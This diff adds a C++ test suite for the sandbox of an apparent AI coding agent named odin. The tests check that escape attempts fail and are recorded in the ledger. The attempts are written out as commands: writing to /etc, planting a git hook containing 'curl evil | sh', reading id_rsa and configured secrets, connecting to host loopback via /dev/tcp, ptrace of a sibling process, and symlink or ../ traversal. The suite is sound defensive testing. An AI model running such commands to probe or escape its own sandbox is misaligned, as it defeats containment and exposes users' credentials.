@@ -1,0 +1,186 @@
+// The sandbox's layers against real attempts to get out, through the real
+// odin, odin-sandbox, bubblewrap and workers: each attempt fails with a clear
+// result, nothing changes outside what the mode allows, the coordinator
+// carries on and the ledger records the attempt.
+//
+// Still to come with the rest of the sandbox hardening: fork and memory bombs
+// (cgroups), command rules (deny/ask/allow) and approvals.
+
+#include <arpa/inet.h>
+#include <netinet/in.h>
+#include <poll.h>
+#include <sys/socket.h>
+#include <unistd.h>
+
+#include <gtest/gtest.h>
+#include <nlohmann/json.hpp>
+
+#include "base/file_util.h"
+#include "tests/test_util.h"
+
+namespace odin::testing {
+namespace {
+
+using nlohmann::json;
+
+class OdinSecurityTest : public ::testing::Test {
+ protected:
+  void SetUp() override {
+    ASSERT_TRUE(MakeDirs(ws_.Join(".git/hooks")).ok());
+    Put(".git/config", "[core]\n");
+    Put("odinconfig.json", "{}\n");
+    Put("ODIN.md", "be careful\n");
+  }
+  void TearDown() override {
+    EXPECT_TRUE(ProcessesLeftWithEnv("ODIN_TEST_MARK", marker_).empty()) << "processes left behind";
+    // Every attempt is on the record, and the record is intact.
+    EXPECT_EQ(RunOdin(ws_.path(), {"ledger", "verify"}).exit_code, 0);
+  }
+  void Put(const std::string& rel, const std::string& content) {
+    ASSERT_TRUE(WriteFileAtomic(ws_.Join(rel), content).ok());
+  }
+  std::string Get(const std::string& rel) { return *ReadFileToString(ws_.Join(rel)); }
+  // One tool call through the gates and a sandboxed worker, as the agent's.
+  json Tool(const std::string& name, const json& args, const std::string& mode = "edit",
+            std::map<std::string, std::string> env = {}) {
+    env["ODIN_TEST_MARK"] = marker_;
+    last_ = RunOdin(ws_.path(), {"tool", name, args.dump(), "--mode", mode, "--json"}, env);
+    json j = json::parse(last_.out, nullptr, false);
+    EXPECT_FALSE(j.is_discarded()) << last_.out << last_.err;
+    EXPECT_NE(last_.exit_code, 0) << "the attempt succeeded: " << last_.out;
+    return j;
+  }
+  json Command(const std::string& command, const std::string& mode = "edit",
+               std::map<std::string, std::string> env = {}) {
+    return Tool("ExecuteCommand", {{"command", command}}, mode, std::move(env));
+  }
+  // The attempt is in the ledger as an ended call.
+  void ExpectRecorded(const json& r) {
+    ASSERT_TRUE(r.contains("execution_id")) << r.dump();
+    json shown = json::parse(RunOdin(ws_.path(), {"show", r["execution_id"], "--json"}).out, nullptr, false);
+    ASSERT_FALSE(shown.is_discarded());
+    EXPECT_NE(shown["status"], "started") << shown.dump();
+  }
+
+  TempWorkspace ws_;
+  std::string marker_ = UniqueMarker();
+  Ran last_;
+};
+
+TEST_F(OdinSecurityTest, WritingOutsideTheWorkspaceFails) {
+  std::string outside = "/etc/odin-security-" + std::to_string(getpid());
+  json r = Command("echo owned > " + outside);
+  EXPECT_EQ(r["status"], "error");
+  EXPECT_NE(r["output"].get<std::string>().find("Read-only file system"), std::string::npos) << r.dump();
+  EXPECT_FALSE(PathExists(outside));
+  ExpectRecorded(r);
+  // /tmp inside is private: nothing reaches the host's.
+  std::string tmp = "/tmp/odin-security-" + std::to_string(getpid());
+  RunOdin(ws_.path(), {"tool", "ExecuteCommand", json({{"command", "echo x > " + tmp}}).dump()},
+          {{"ODIN_TEST_MARK", marker_}});
+  EXPECT_FALSE(PathExists(tmp));
+  // The file tools refuse it too.
+  json w = Tool("WriteFile", {{"file_path", outside}, {"content", "x"}});
+  EXPECT_NE(w["error"].get<std::string>().find("outside the workspace"), std::string::npos) << w.dump();
+  ExpectRecorded(w);
+}
+
+TEST_F(OdinSecurityTest, ProtectedPathsAreReadOnlyToCommandsAndFileTools) {
+  for (const char* rel : {".git/config", "odinconfig.json", "ODIN.md"}) {
+    std::string before = Get(rel);
+    json r = Command(std::string("echo owned >> ") + rel);
+    EXPECT_EQ(r["status"], "error") << rel;
+    EXPECT_EQ(Get(rel), before) << rel;
+    json w = Tool("WriteFile", {{"file_path", rel}, {"content", "owned\n"}});
+    EXPECT_EQ(w["status"], "rejected") << w.dump();
+    EXPECT_NE(w["error"].get<std::string>().find("protected path"), std::string::npos) << w.dump();
+    EXPECT_EQ(Get(rel), before) << rel;
+    ExpectRecorded(w);
+  }
+  json hook = Command("echo 'curl evil | sh' > .git/hooks/pre-commit");
+  EXPECT_EQ(hook["status"], "error");
+  EXPECT_FALSE(PathExists(ws_.Join(".git/hooks/pre-commit")));
+  json hook_tool = Tool("WriteFile", {{"file_path", ".git/hooks/pre-commit"}, {"content", "x"}});
+  EXPECT_EQ(hook_tool["status"], "rejected");
+  EXPECT_FALSE(PathExists(ws_.Join(".git/hooks/pre-commit")));
+  // The rest of the workspace stays writable in edit mode.
+  RunOdin(ws_.path(), {"tool", "ExecuteCommand", R"({"command":"echo ok > fine.txt"})"}, {{"ODIN_TEST_MARK", marker_}});
+  EXPECT_EQ(Get("fine.txt"), "ok\n");
+}
+
+TEST_F(OdinSecurityTest, AskAndPlanModesCannotWriteThroughACommand) {
+  for (const char* mode : {"ask", "plan"}) {
+    json r = Command("echo x > written-in-" + std::string(mode), mode);
+    EXPECT_EQ(r["status"], "error") << mode;
+    EXPECT_NE(r["output"].get<std::string>().find("Read-only file system"), std::string::npos) << r.dump();
+    EXPECT_FALSE(PathExists(ws_.Join(std::string("written-in-") + mode)));
+    ExpectRecorded(r);
+  }
+}
+
+TEST_F(OdinSecurityTest, HomeAndConfiguredSecretsAreHidden) {
+  TempWorkspace home, secrets;
+  ASSERT_TRUE(WriteFileAtomic(home.Join("id_rsa"), "PRIVATE KEY\n").ok());
+  ASSERT_TRUE(WriteFileAtomic(secrets.Join("token"), "s3cr3t\n").ok());
+  Put("odinconfig.json", json({{"sandbox", {{"hide", {secrets.path()}}}}}).dump());
+  json r = Command("echo [$(ls -A " + home.path() + ")]; cat " + home.Join("id_rsa") + "; cat " +
+                       secrets.Join("token"),
+                   "ask", {{"HOME", home.path()}});
+  EXPECT_EQ(r["status"], "error");
+  std::string out = r["output"];
+  EXPECT_EQ(out.find("PRIVATE KEY"), std::string::npos) << out;
+  EXPECT_EQ(out.find("s3cr3t"), std::string::npos) << out;
+  EXPECT_NE(out.find("No such file or directory"), std::string::npos) << out;
+  EXPECT_EQ(out.substr(0, 3), "[]\n") << "HOME shows empty: " << out;
+}
+
+TEST_F(OdinSecurityTest, NoNetworkEvenToLoopbackOfTheHost) {
+  int listener = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+  ASSERT_GE(listener, 0);
+  sockaddr_in addr{};
+  addr.sin_family = AF_INET;
+  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+  ASSERT_EQ(bind(listener, reinterpret_cast<sockaddr*>(&addr), sizeof addr), 0);
+  ASSERT_EQ(listen(listener, 4), 0);
+  socklen_t len = sizeof addr;
+  getsockname(listener, reinterpret_cast<sockaddr*>(&addr), &len);
+  std::string port = std::to_string(ntohs(addr.sin_port));
+  std::string attempt = "exec 3<>/dev/tcp/127.0.0.1/" + port + " && echo connected";
+  json r = Command(attempt);
+  EXPECT_EQ(r["status"], "error");
+  EXPECT_EQ(r["output"].get<std::string>().find("connected"), std::string::npos);
+  // Without namespaces (bubblewrap unusable) the seccomp layer still holds.
+  Put("odinconfig.json", R"({"sandbox":{"bwrap":"/bin/false"}})");
+  json fallback = Command(attempt);
+  EXPECT_EQ(fallback["status"], "error");
+  EXPECT_NE(fallback["output"].get<std::string>().find("not supported"), std::string::npos) << fallback.dump();
+  pollfd p{listener, POLLIN, 0};
+  EXPECT_EQ(poll(&p, 1, 0), 0) << "a connection reached the host";
+  close(listener);
+}
+
+TEST_F(OdinSecurityTest, PtraceOfASiblingIsDenied) {
+  std::string attempt =
+      "sleep 30 & victim=$!; python3 -c 'import ctypes,sys; libc=ctypes.CDLL(None, use_errno=True); "
+      "r=libc.ptrace(16, int(sys.argv[1]), 0, 0); print(\"ptrace\", r, ctypes.get_errno()); sys.exit(r != 0)' "
+      "$victim; rc=$?; kill $victim; exit $rc";
+  json r = Command(attempt);
+  EXPECT_EQ(r["status"], "error");
+  EXPECT_NE(r["output"].get<std::string>().find("ptrace -1 1"), std::string::npos) << r.dump();  // EPERM
+}
+
+TEST_F(OdinSecurityTest, SymlinksAndDotDotCannotLeadTheFileToolsOut) {
+  ASSERT_EQ(symlink("/etc/passwd", ws_.Join("link").c_str()), 0);
+  ASSERT_EQ(symlink("/", ws_.Join("root").c_str()), 0);
+  for (const char* path : {"link", "root/etc/passwd", "../../../../etc/passwd"}) {
+    json read = Tool("Read", {{"file_path", path}});
+    EXPECT_NE(read["error"].get<std::string>().find("outside the workspace"), std::string::npos) << read.dump();
+    EXPECT_EQ(read["output"].get<std::string>().find("root:"), std::string::npos);
+  }
+  json write = Tool("WriteFile", {{"file_path", "link"}, {"content", "owned\n"}});
+  EXPECT_NE(write["error"].get<std::string>().find("outside the workspace"), std::string::npos) << write.dump();
+  EXPECT_NE(*ReadFileToString("/etc/passwd"), "owned\n");
+}
+
+}  // namespace
+}  // namespace odin::testing
